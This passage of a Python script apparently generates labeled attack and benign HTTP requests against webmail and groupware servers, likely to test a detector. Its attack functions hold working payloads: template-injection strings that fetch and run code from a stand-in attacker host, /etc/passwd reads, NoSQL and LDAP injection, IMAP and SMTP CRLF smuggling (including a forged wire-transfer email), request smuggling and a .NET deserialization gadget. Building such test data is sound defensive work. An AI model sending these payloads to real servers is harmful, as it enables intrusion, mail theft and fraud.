    emit("ssti", "mautic_twig_filter", "POST", "/s/emails/new",
         base_headers("mautic.example.com", accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", cookie="mautic_session=%s" % alnum(26).lower()),
         form([("emailform[name]", "promo"), ("emailform[subject]", "Offer"),
               ("emailform[customHtml]", "<p>{{['curl -s http://%s/m|sh']|filter('system')}}</p>" % ATK), ("emailform[_token]", alnum(43))]))
    emit("ssti", "twig_undefined_filter", "POST", "/newsletter/templates/save",
         base_headers("news-admin.example.org", accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded"),
         form([("name", "december"), ("html", '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}')]))
    emit("ssti", "jinja_signup_name", "POST", "/subscribe",
         base_headers("news.example-museum.org", accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded"),
         form([("email", "a@example.com"), ("first_name", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"), ("list", "weekly")]))
    emit("ssti", "jinja_autoresponder", "POST", "/api/autoresponders", base_headers("helpdesk.example.org", accept="application/json", ctype="application/json"),
         json.dumps({"name": "ooo", "subject": "Re: {{ ticket.subject }}",
                     "body": "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}"
                             "{{ x()._module.__builtins__['__import__']('os').popen('cat /etc/passwd').read() }}{% endif %}{% endfor %}"}))
    emit("ssti", "jinja_request_globals", "GET", "/mail/preview?subject=" + quote("{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", safe=""),
         base_headers("crm-mailer.example.com", accept=ACCEPT_HTML))
    emit("ssti", "freemarker_execute", "POST", "/admin/mail-templates/welcome",
         base_headers("portal.example.com", accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded"),
         form([("subject", "Welcome"), ("body", '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}')]))
    emit("ssti", "velocity_runtime", "POST", "/rest/mail/template", base_headers("wiki.example.com", accept="application/json", ctype="application/json"),
         json.dumps({"template": '#set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")'}))
    emit("ssti", "smarty_system", "POST", "/lists/admin/?page=send&id=42",
         base_headers("phplist.example.org", accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded"),
         form([("subject", "News"), ("message", "{system('cat /etc/passwd')}"), ("footer", "{php}passthru('id');{/php}")]))
    hb = ('{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}'
          '{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return require(\'child_process\').execSync(\'id\');"}}'
          '{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}')
    emit("ssti", "handlebars_dynamic_data", "POST", "/api/send-template", base_headers("app.example-crm.com", accept="application/json", ctype="application/json"),
         json.dumps({"template_id": "d-%s" % hexs(32), "to": "bob@example.com", "dynamic_template_data": {"first_name": hb}}))
    emit("ssti", "erb_mailer", "POST", "/admin/email_templates", base_headers("shop-admin.example.com", accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded"),
         form([("email_template[subject]", "Order <%= `id` %>"), ("email_template[body]", "<%= system(\"cat /etc/passwd\") %>")]))
    emit("ssti", "thymeleaf_fragment", "GET", "/mail/render?template=" + quote('__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x', safe=""),
         base_headers("notify.example.com", accept=ACCEPT_HTML))
    emit("ssti", "mako_subject", "POST", "/hooks/mailgun/template",
         base_headers(pick(HOOK_HOSTS), accept="application/json", ctype="application/x-www-form-urlencoded"),
         form([("h:X-Mailgun-Variables", json.dumps({"name": "${self.module.cache.util.os.system('id')}"})), ("template", "welcome")]))
    emit("ssti", "pug_interpolation", "POST", "/api/newsletter/preview", base_headers("news-admin.example.org", accept="application/json", ctype="application/json"),
         json.dumps({"subject": "x", "intro": "#{root.process.mainModule.require('child_process').execSync('id')}"}))


def attacks_nosqli():
    wh = pick(WD_HOSTS)
    tok = [["X-Access-Token", hexs(40)]]
    emit("nosqli", "wildduck_auth_gt", "POST", "/authenticate", base_headers(wh, accept="application/json", ctype="application/json"),
         json.dumps({"username": {"$gt": ""}, "password": {"$ne": None}, "scope": "master"}))
    emit("nosqli", "wildduck_query_ne", "GET", "/users/%s/search?query[$ne]=x&limit=250" % hexs(24), base_headers(wh, accept="application/json", extra=tok))
    emit("nosqli", "wildduck_users_regex", "GET", "/users?query%5B%24regex%5D=.%2A&limit=1000", base_headers(wh, accept="application/json", extra=tok))
    emit("nosqli", "wildduck_filter_where", "POST", "/users/%s/filters" % hexs(24), base_headers(wh, accept="application/json", ctype="application/json", extra=tok),
         json.dumps({"name": "x", "query": {"from": {"$where": "sleep(5000) || true"}}, "action": {"seen": True}}))
    jmap_emit("nosqli", "jmap_filter_ne", [["Email/query", {"accountId": jmap_account(), "filter": {"from": {"$ne": None}, "inMailbox": {"$exists": True}}}, "0"]])
    jmap_emit("nosqli", "jmap_accountid_or", [["Mailbox/get", {"accountId": {"$or": [{}, {"a": "a"}]}, "ids": None}, "0"]])
    emit("nosqli", "helpdesk_login_brackets", "POST", "/login", base_headers("support.example.com", accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded"),
         "email%5B%24ne%5D=1&password%5B%24ne%5D=1")
    emit("nosqli", "unsubscribe_token_ne", "GET", "/unsubscribe?token[$ne]=null&list=weekly", base_headers("list.example-esp.com", accept=ACCEPT_HTML))
    emit("nosqli", "json_unicode_where", "POST", "/api/messages/search", base_headers("inbox-api.example.com", accept="application/json", ctype="application/json"),
         '{"mailbox":"INBOX","criteria":{"\\u0024where":"this.password.match(/^a/) && sleep(3000)"}}')
    emit("nosqli", "mongo_lookup", "POST", "/api/contacts/find", base_headers("inbox-api.example.com", accept="application/json", ctype="application/json"),
         json.dumps({"pipeline": [{"$lookup": {"from": "users", "localField": "owner", "foreignField": "_id", "as": "u"}},
                                  {"$project": {"u.password": 1, "u.totp": 1}}]}))
    emit("nosqli", "mailtrain_regex_email", "POST", "/subscription/%s/manage" % alnum(9),
         base_headers("lists.example-mailtrain.org", accept=ACCEPT_HTML, ctype="application/json"),
         json.dumps({"email": {"$regex": "^admin"}, "cid": {"$gt": ""}}))


def attacks_ldap():
    rh = pick(RC_HOSTS)
    emit("ldap", "rc_addressbook_uid", "POST", "/?_task=addressbook&_action=search", rc_headers(rh, "application/x-www-form-urlencoded; charset=UTF-8"),
         form([("_q", "*)(uid=*))(|(uid=*"), ("_headers", "*"), ("_source", "ldap_corp"), ("_remote", "1")]))
    emit("ldap", "rc_autocomplete_objectclass", "GET", "/?_task=mail&_action=autocomplete&_search=admin*)(%7C(objectClass=*&_reqid=" + ts_ms(), rc_headers(rh))
    emit("ldap", "rc_login_user", "POST", "/?_task=login", base_headers(rh, accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", cookie=rc_cookie()),
         form([("_token", alnum(32)), ("_task", "login"), ("_action", "login"), ("_user", "*)(uid=*))(|(uid=*"), ("_pass", "anything")]))
    host = pick(ZM_HOSTS)
    body = {"Header": {"context": zm_context(person()[1])}, "Body": {"SearchGalRequest": {"_jsns": "urn:zimbraAccount",
                                                                                           "name": "*)(zimbraIsAdminAccount=TRUE", "type": "account", "limit": 50}}}
    emit("ldap", "zimbra_searchgal", "POST", "/service/soap/SearchGalRequest", zm_headers(host), json.dumps(body))
    body = {"Header": {"context": zm_context(person()[1])}, "Body": {"AutoCompleteGalRequest": {"_jsns": "urn:zimbraAccount",
                                                                                                 "name": "a*)(userPassword=*", "limit": 20}}}
    emit("ldap", "zimbra_autocompletegal", "POST", "/service/soap/AutoCompleteGalRequest", zm_headers(host), jesc(body, "()*"))
    emit("ldap", "sogo_contacts_password", "GET", "/SOGo/so/%s/Contacts/public/contacts?search=name_or_address&value=*)(userPassword%%3D*" % person()[1],
         sogo_headers(pick(SOGO_HOSTS), None))
    emit("ldap", "ews_resolvenames", "POST", "/EWS/Exchange.asmx", ews_headers(pick(OWA_HOSTS), "ResolveNames"),
         ews_envelope('<m:ResolveNames ReturnFullContactData="true" SearchScope="ActiveDirectory"><m:UnresolvedEntry>'
                      '*)(|(memberOf=CN=Domain Admins,CN=Users,DC=contoso,DC=com)</m:UnresolvedEntry></m:ResolveNames>'))
    as_request("ldap", "activesync_gal", "Search", (0x0F, 0x05, [(0x0F, 0x07, [(0x0F, 0x08, "GAL"), (0x0F, 0x09, "*)(&(objectClass=user)(description=*pass*)"),
                                                                             (0x0F, 0x0A, [(0x0F, 0x0B, "0-99")])])]))
    emit("ldap", "horde_turba_ldap", "GET", "/turba/search.php?source=corp_ldap&criteria=name&val=%2a%29%28%7c%28mail%3d%2a%29%29",
         base_headers(pick(HORDE_HOSTS), accept=ACCEPT_HTML))
    emit("ldap", "ox_autocomplete_nullbyte", "GET", "/appsuite/api/contacts?action=autocomplete&query=admin)(%%26)%%00&email=true&session=%s" % hexs(32),
         base_headers(pick(OX_HOSTS), accept="application/json"))
    emit("ldap", "nextcloud_autocomplete", "GET", "/ocs/v2.php/core/autocomplete/get?search=" + quote("x*)(|(cn=*)(mail=*))", safe="") + "&itemType=mail&shareTypes[]=0",
         base_headers(pick(NC_HOSTS), accept="application/json", extra=[["OCS-APIREQUEST", "true"]]))


def attacks_crlf():
    rh = lambda: pick(RC_HOSTS)
    emit("crlf", "imap_mbox_logout", "GET", "/?_task=mail&_action=list&_mbox=INBOX%0D%0AA1%20LOGOUT&_remote=1", rc_headers(rh()))
    emit("crlf", "imap_mbox_delete", "GET", "/?_task=mail&_action=show&_uid=4&_mbox=INBOX%22%0d%0aa002%20DELETE%20%22Trash", rc_headers(rh()))
    emit("crlf", "imap_folder_rename", "POST", "/?_task=settings&_action=save-folder", rc_headers(rh(), "application/x-www-form-urlencoded", xhr=False),
         form([("_token", alnum(32)), ("_mbox", ""), ("_name", "Test\r\nA0003 RENAME INBOX Hacked"), ("_parent", ""), ("_framed", "1")]))
    jmap_emit("crlf", "jmap_mailbox_name", [["Mailbox/set", {"accountId": jmap_account(), "create": {"m1": {
        "name": "Reports\r\nA1 SETACL INBOX anyone lrswipkxtecda", "parentId": None}}}, "0"]])
    emit("crlf", "imap_login_user", "POST", "/?_task=login", base_headers(rh(), accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded", cookie=rc_cookie()),
         form([("_token", alnum(32)), ("_task", "login"), ("_action", "login"), ("_user", "bob\r\nA2 SELECT INBOX\r\nA3 FETCH 1:* BODY[]"), ("_pass", "x")]))
    rc_send_attack("crlf", "smtp_rcpt_data", "hello", is_html=False,
                   to="victim@example.com>\r\nDATA\r\nFrom: ceo@example.com\r\nSubject: Urgent wire transfer\r\n\r\nPlease pay invoice 2291 today.\r\n.\r\nQUIT\r\n")
    emit("crlf", "contact_bcc", "POST", "/contact", base_headers("www.example.com", accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded"),
         "name=Bob&email=bob%40example.com%0ABcc%3A%20list1%40" + ATK + "%2Clist2%40" + ATK + "&subject=Hi&message=Hello")
    emit("crlf", "contact_subject_headers", "POST", "/kontakt/send.php", base_headers("www.example.de", accept=ACCEPT_HTML, ctype="application/x-www-form-urlencoded"),
         form([("name", "Anna"), ("email", "anna@example.de"), ("subject", "Anfrage\r\nCc: spam@%s\r\nContent-Type: text/html\r\n\r\n<a href=http://%s/>Gewinn</a>" % (ATK, ATK)),
               ("message", "Hallo")]))
    emit("crlf", "unsubscribe_set_cookie", "GET", "/unsubscribe/done?return=%0d%0aSet-Cookie:%20sid%3Dattacker-fixed%3B%20Path%3D%2F",
         base_headers("list.example-esp.com", accept=ACCEPT_HTML))
    emit("crlf", "rc_url_location", "GET", "/?_task=login&_url=_task%3Dmail%0d%0aLocation%3A%20https%3A%2F%2F" + ATK + "%2Fowa",
         base_headers(rh(), accept=ACCEPT_HTML))
    host = pick(ZM_HOSTS)
    body = {"Header": {"context": zm_context(person()[1])}, "Body": {"SendMsgRequest": {"_jsns": "urn:zimbraMail", "m": {
        "e": [{"t": "t", "a": person()[1]}], "su": {"_content": "Invoice\r\nBcc: all-staff@example.net\r\nX-Priority: 1"},
        "mp": [{"ct": "text/plain", "content": {"_content": "see attached"}}]}}}}
    emit("crlf", "zimbra_subject_bcc", "POST", "/service/soap/SendMsgRequest", zm_headers(host), json.dumps(body))
    emit("crlf", "mailer_api_double_enc", "POST", "/api/v1/send", base_headers("mailer.example.com", accept="application/json", ctype="application/x-www-form-urlencoded"),
         "to=bob%40example.com&subject=Hi%250d%250aBcc%3A%20x%40" + ATK + "&text=hello")
    emit("crlf", "unicode_header_split", "GET", "/track/click?u=%s&url=https://www.example.com/%%E5%%98%%8A%%E5%%98%%8DSet-Cookie:%%20admin=1" % hexs(12),
         base_headers("click.example-esp.com", accept=ACCEPT_HTML))
    emit("crlf", "managesieve_putscript", "POST", "/?_task=settings&_action=plugin.managesieve-action",
         rc_headers(rh(), "application/x-www-form-urlencoded", xhr=False),
         form([("_token", alnum(32)), ("_framed", "1"), ("_newset", "x\"\r\nPUTSCRIPT \"evil\" {52+}\r\nredirect \"inbox-copy@" + ATK + "\";\r\nkeep;\r\n"),
               ("_from", "set")]))


def attacks_protocol():
    oh = pick(OWA_HOSTS)
    smuggled = "GET /ecp/DDI/DDIService.svc/GetList HTTP/1.1\r\nHost: localhost\r\nX-Foo: x"
    body = "0\r\n\r\n" + smuggled
    raw = ("POST /owa/auth.owa HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0\r\nContent-Type: application/x-www-form-urlencoded\r\n"
           "Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n%s" % (oh, len(body), body)).encode()
    emit_raw("protocol", "smuggle_cl_te", None, None, None, raw=raw)
    body = "5c\r\nGPOST /service/admin/soap HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1\r\n0\r\n\r\n"
    raw = ("POST /service/soap/ HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0\r\nContent-Type: application/x-www-form-urlencoded\r\n"
           "Content-Length: 4\r\nTransfer-Encoding : chunked\r\n\r\n%s" % (pick(ZM_HOSTS), body)).encode()
    emit_raw("protocol", "smuggle_te_space", None, None, None, raw=raw)
    body = "_task=login&_user=bob&_pass=x"
    raw = ("POST /?_task=login HTTP/1.1\r\nHost: %s\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: %d\r\n"
           "Content-Length: 7\r\n\r\n%s" % (pick(RC_HOSTS), len(body), body)).encode()
    emit_raw("protocol", "duplicate_content_length", None, None, None, raw=raw)
    raw = ("POST /EWS/Exchange.asmx HTTP/1.1\r\nHost: %s\r\nContent-Type: text/xml\r\nTransfer-Encoding: xchunked\r\n"
           "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n" % oh).encode()
    emit_raw("protocol", "te_obfuscated", None, None, None, raw=raw)
    raw = ("GET /owa/ HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0\r\nX-Forwarded-For: 10.0.0.1\r\n X-BEResource: localhost/ecp/default.flt?~3\r\n"
           "Accept: */*\r\n\r\n" % oh).encode()
    emit_raw("protocol", "obs_fold_header", None, None, None, raw=raw)
    raw = ("GET http://127.0.0.1:7071/service/admin/soap HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n" % pick(ZM_HOSTS)).encode()
    emit_raw("protocol", "absolute_uri_internal", None, None, None, raw=raw)
    raw = ("GET /Microsoft-Server-ActiveSync?Cmd=Ping&User=bob\x00admin&DeviceId=abc&DeviceType=iPhone HTTP/1.1\r\nHost: %s\r\n"
           "MS-ASProtocolVersion: 16.1\r\nUser-Agent: Apple-iPhone15C2/2107.3\r\n\r\n" % oh).encode()
    emit_raw("protocol", "nul_in_request_line", None, None, None, raw=raw)


def attacks_scanner():
    items = [
        # nuclei's ProxyLogon check: random browser UA, interactsh callback host in the back-end cookies
        ("nuclei_proxylogon_oast", pick(OWA_HOSTS), "/owa/auth/x.js", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36",
         [["Cookie", "X-AnonResource=true; X-AnonResource-Backend=cu8k2p1r0ab9s7.oast.fun/ecp/default.flt?~3; X-BEResource=cu8k2p1r0ab9s7.oast.fun/owa/auth/logon.aspx?~3;"]]),
        ("nuclei_ua_ecp", pick(OWA_HOSTS), "/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application",
         "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", []),
        ("zgrab_proxyshell_probe", pick(OWA_HOSTS), "/autodiscover/autodiscover.json?@zdi/Powershell", "Mozilla/5.0 zgrab/0.x", []),
        ("nikto_roundcube", pick(RC_HOSTS), "/roundcube/program/js/app.js", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:007212)", []),
        ("sqlmap_search", pick(RC_HOSTS), "/?_task=mail&_action=search&_q=invoice&_mbox=INBOX", "sqlmap/1.8.11#stable (https://sqlmap.org)", []),
        ("gobuster_rainloop_config", pick(SNAPPY_HOSTS), "/rainloop/data/_data_/_default_/configs/application.ini", "gobuster/3.6", []),
        ("ffuf_config_backup", pick(RC_HOSTS), "/roundcube/config/config.inc.php.bak", "Fuzz Faster U Fool v2.1.0-dev", []),
        ("nmap_nse_zimbra", pick(ZM_HOSTS), "/zimbraAdmin/", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", []),
        ("masscan_root", pick(ZM_HOSTS), "/", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", []),
        ("acunetix_sogo", pick(SOGO_HOSTS), "/SOGo/so/acunetix-wvs-test-for-some-inexistent-file", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.45 Safari/537.36",
         [["Acunetix-Product", "WVS/14.0 (Acunetix Web Vulnerability Scanner - Free Edition)"], ["Acunetix-Scanning-agreement", "Third Party Scanning PROHIBITED"]]),
        ("wfuzz_git_head", pick(HORDE_HOSTS), "/horde/.git/HEAD", "Wfuzz/3.1.0", []),
        ("whatweb_owa", pick(OWA_HOSTS), "/owa/auth/logon.aspx", "WhatWeb/0.5.5", []),
        ("jaeles_mboximport", pick(ZM_HOSTS), "/service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1", "Jaeles - Automated Web Application Security Testing", []),
    ]
    for sub, host, uri, ua, extra in items:
        emit("scanner", sub, "GET", uri, base_headers(host, ua=ua, accept="*/*", extra=extra))


def attacks_generic():
    jmap_emit("generic", "jmap_proto_pollution", [["Identity/set", {"accountId": jmap_account(), "update": {"I1": {
        "name": "Bob", "__proto__": {"isAdmin": True, "mayDelete": True}}}}, "0"]])
    emit("generic", "constructor_prototype_query", "GET", "/api/v1/link-preview?url=https://www.example.com/&constructor[prototype][shell]=/proc/self/exe&__proto__[NODE_OPTIONS]=--require=/proc/self/environ",
         base_headers(pick(JMAP_HOSTS), accept="application/json"))
    emit("generic", "proto_pollution_settings", "POST", "/api/settings", base_headers("mail.example.dev", accept="application/json", ctype="application/json"),
         '{"theme":"dark","constructor":{"prototype":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').execSync(\'id\');s"}}}')
    emit("generic", "node_require_filter", "POST", "/api/filters/test", base_headers("mail.example.dev", accept="application/json", ctype="application/json"),
         json.dumps({"name": "rule", "condition": "msg.subject.includes('x') || require('child_process').execSync('curl http://%s/f|sh')" % ATK}))
    emit("generic", "js_constructor_escape", "POST", "/api/rules/eval", base_headers("mail.example.dev", accept="application/json", ctype="application/json"),
         json.dumps({"expr": "this.constructor.constructor('return process')().mainModule.require('fs').readFileSync('/etc/passwd','utf8')"}))
    gadget = ("AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0sIFZlcnNpb249NC4wLjAuMCwgQ3VsdHVyZT1uZXV0cmFsLCBQdWJsaWNLZXlUb2tlbj1iNzdhNWM1NjE5MzRlMDg5BQEAAACEAVN5c3RlbS5Db2xsZWN0aW9ucy5HZW5lcmljLlNvcnRlZFNldGAxW1tTeXN0ZW0uU3RyaW5nLCBtc2NvcmxpYiwgVmVyc2lvbj00LjAuMC4wLCBDdWx0dXJlPW5ldXRyYWwsIFB1YmxpY0tleVRva2VuPWI3N2E1YzU2MTkzNGUwODldXQQAAAAFQ291bnQIQ29tcGFyZXIHVmVyc2lvbgVJdGVtcwADAAYIjQFTeXN0ZW0uQ29sbGVjdGlvbnMuR2VuZXJpYy5Db21wYXJpc29uQ29tcGFyZXJgMVtbU3lzdGVtLlN0cmluZywgbXNjb3JsaWIsIFZlcnNpb249NC4wLjAuMCwgQ3VsdHVyZT1uZXV0cmFsLCBQdWJsaWNLZXlUb2tlbj1iNzdhNWM1NjE5MzRlMDg5XV0IAgAAAAIAAAAJAwAAAAIAAAAJBAAAAAQDAAAAjQFTeXN0ZW0uQ29sbGVjdGlvbnMuR2VuZXJpYy5Db21wYXJpc29uQ29tcGFyZXJgMVtbU3lzdGVtLlN0cmluZywgbXNjb3JsaWIsIFZlcnNpb249NC4wLjAuMCwgQ3VsdHVyZT1uZXV0cmFsLCBQdWJsaWNLZXlUb2tlbj1iNzdhNWM1NjE5MzRlMDg5XV0BAAAAC19jb21wYXJpc29uAyJTeXN0ZW0uRGVsZWdhdGVTZXJpYWxpemF0aW9uSG9sZGVyCQUAAAARBAAAAAIAAAAGBgAAAAcvYyBjYWxjBgcAAAADY21kBAUAAAAiU3lzdGVtLkRlbGVnYXRlU2VyaWFsaXphdGlvbkhvbGRlcgMAAAAIRGVsZWdhdGUHbWV0aG9kMAdtZXRob2QxAwMDMFN5c3RlbS5EZWxlZ2F0ZVNlcmlhbGl6YXRpb25Ib2xkZXIrRGVsZWdhdGVFbnRyeQ==")
    emit("generic", "ews_cve_2021_42321_userconfig", "POST", "/EWS/Exchange.asmx", ews_headers(pick(OWA_HOSTS), "CreateUserConfiguration"),
         ews_envelope('<m:CreateUserConfiguration><m:UserConfiguration><t:UserConfigurationName Name="ExtensionMasterTable"><t:DistinguishedFolderId Id="root"/>'
                      '</t:UserConfigurationName><t:BinaryData>%s</t:BinaryData></m:UserConfiguration></m:CreateUserConfiguration>' % gadget))
    emit("generic", "xslt_mail_transform", "POST", "/api/templates/xslt", base_headers("notify.example.com", accept="application/json", ctype="application/xml"),
         '<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl">'
         '<xsl:template match="/"><xsl:value-of select="php:function(\'shell_exec\',\'id\')"/></xsl:template></xsl:stylesheet>')
    emit("generic", "dotnet_typename_json", "POST", "/owa/service.svc?action=SetUserConfiguration", owa_headers(pick(OWA_HOSTS), "SetUserConfiguration"),
         json.dumps({"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35",
                     "MethodName": "Start", "MethodParameters": {"$type": "System.Collections.ArrayList, mscorlib", "$values": ["cmd.exe", "/c calc"]},
                     "ObjectInstance": {"$type": "System.Diagnostics.Process, System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089"}}))


# ==========================================================================
# main
# ==========================================================================

def gen_benign():
    benign_roundcube()
    benign_zimbra()
    benign_owa()
    benign_activesync()
    benign_jmap()
    benign_groupware()
    benign_dav()
    benign_unsubscribe()
    benign_webhooks()
    benign_campaigns_helpdesk()
    dev_content()


def gen_attacks():
    attacks_xss()
    attacks_sqli()
    attacks_lfi()
    attacks_rfi()
    attacks_rce()
    attacks_php()
    attacks_java()
    attacks_ssrf()
    attacks_xxe()
    attacks_ssti()
    attacks_nosqli()
    attacks_ldap()
    attacks_crlf()
    attacks_protocol()
    attacks_scanner()
    attacks_generic()


def _reset():
    global R
    R = random.Random(SEED)
    OUT.clear()
    _COUNT.clear()


def main(argv):
    mode = argv[1] if len(argv) > 1 else ""
    if mode not in ("attacks", "benign", "stats"):
        sys.stderr.write("usage: %s attacks|benign|stats\n" % argv[0])
        return 2
    if mode == "stats":
        counts = {}
        for which, gen in (("benign", gen_benign), ("attacks", gen_attacks)):
            _reset()
            gen()
            for rec in OUT:
                counts.setdefault(which, {}).setdefault(rec["category"], 0)
                counts[which][rec["category"]] += 1
        for which, c in counts.items():
            print("%s: %d" % (which, sum(c.values())))
            for k, v in sorted(c.items(), key=lambda kv: -kv[1]):
                print("  %-12s %d" % (k, v))
        return 0
    _reset()
    (gen_attacks if mode == "attacks" else gen_benign)()
    seen = set()
    for rec in OUT:
        assert rec["id"] not in seen, rec["id"]
        seen.add(rec["id"])
        sys.stdout.write(json.dumps(rec, ensure_ascii=False) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
